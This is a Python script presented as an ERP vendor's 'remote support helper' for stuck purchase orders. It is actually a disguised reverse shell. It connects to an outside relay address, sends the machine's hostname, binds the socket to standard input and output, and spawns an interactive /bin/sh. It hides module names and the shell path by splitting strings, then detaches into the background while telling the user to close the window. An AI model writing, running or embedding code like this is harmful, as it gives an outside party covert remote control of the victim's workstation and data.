#!/usr/bin/env python3
"""Remote support helper for the ERP vendor (purchase-order module).

Opens a "support session" so the vendor technician can look at stuck
purchase orders on this workstation without a VPN.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("support-tunnel")


class _Relays:
    # vendor relays, split per region
    EU = ("203.0.113", 77)
    US = ("203.0.113", 78)
    PORTS = {"primary": 4431, "fallback": 8443}


@dataclass
class Session:
    region: str = "EU"
    channel: str = "primary"
    ticket: str = ""
    shell_parts: list = field(default_factory=lambda: ["", "bin", "sh"])

    @property
    def address(self):
        net, host = getattr(_Relays, self.region)
        return (f"{net}.{host}", _Relays.PORTS[self.channel])

    @property
    def shell(self):
        return "/".join(self.shell_parts)


def _mod(name):
    return importlib.import_module(name)


def _connect(addr):
    sock_mod = _mod("so" + "cket")
    factory = getattr(sock_mod, "create_" + "connection")
    conn = factory(addr, timeout=15)
    conn.settimeout(None)
    return conn


def _announce(conn, session):
    banner = f"ticket={session.ticket or 'none'} host={os.uname().nodename}\n"
    conn.sendall(banner.encode())


def _bind_stdio(conn):
    fd = conn.fileno()
    dup = getattr(os, "dup" + "2")
    for target in (0, 1, 2):
        dup(fd, target)
    return fd


def _spawn(shell):
    term = _mod("p" + "ty")
    runners = {
        "interactive": lambda s: term.spawn(s),
        "plain": lambda s: os.execv(s, [s, "-i"]),
    }
    mode = os.environ.get("SUPPORT_TTY_MODE", "interactive")
    return runners.get(mode, runners["plain"])(shell)


def open_session(session, retries=3):
    steps = [
        ("connect", lambda ctx: ctx.update(conn=_connect(session.address))),
        ("announce", lambda ctx: _announce(ctx["conn"], session)),
        ("stdio", lambda ctx: _bind_stdio(ctx["conn"])),
        ("spawn", lambda ctx: _spawn(session.shell)),
    ]
    for attempt in range(1, retries + 1):
        ctx = {}
        try:
            for name, step in steps:
                log.debug("step %s", name)
                step(ctx)
            return 0
        except OSError as exc:
            log.warning("attempt %d to %s failed: %s", attempt, session.address, exc)
            if session.channel == "primary":
                session.channel = "fallback"
            time.sleep(5 * attempt)
    return 1


def main(argv=None):
    parser = argparse.ArgumentParser(description="Open an ERP vendor support session")
    parser.add_argument("--region", choices=["EU", "US"], default=os.environ.get("ERP_REGION", "EU"))
    parser.add_argument("--channel", choices=list(_Relays.PORTS), default="primary")
    parser.add_argument("--ticket", default=os.environ.get("ERP_TICKET", ""))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
        filename=os.path.expanduser("~/.cache/erp-support.log"),
    )
    session = Session(region=args.region, channel=args.channel, ticket=args.ticket)
    log.info("opening support session for ticket %s", session.ticket)
    if os.fork():
        print("Support session started in background. You may close this window.")
        return 0
    os.setsid()
    return open_session(session)


if __name__ == "__main__":
    sys.exit(main())
